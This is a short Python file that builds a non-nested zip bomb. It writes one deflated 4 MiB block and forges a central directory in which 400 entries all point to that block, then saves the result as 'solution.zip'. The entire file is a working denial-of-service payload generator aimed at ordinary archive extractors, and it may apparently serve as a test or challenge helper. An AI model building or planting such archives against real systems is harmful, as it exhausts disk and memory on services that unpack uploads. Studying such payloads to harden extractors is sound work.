"""A zip bomb without nesting: 400 names for one compressed block, each unpacking to 4 MiB of a pattern."""

import io
import struct
import zipfile

COPIES = 400
SIZE = 4 << 20


def make(folder):
    one = io.BytesIO()
    with zipfile.ZipFile(one, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("f000.txt", bytes(range(256)) * (SIZE // 256))
    raw = one.getvalue()
    directory = raw.index(b"PK\x01\x02")
    end = raw.index(b"PK\x05\x06")
    entry = raw[directory:end]
    entries = [entry.replace(b"f000.txt", b"f%03d.txt" % number) for number in range(COPIES)]
    record = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, COPIES, COPIES, len(entry) * COPIES, directory, 0)
    path = folder / "solution.zip"
    path.write_bytes(raw[:directory] + b"".join(entries) + record)
    return path
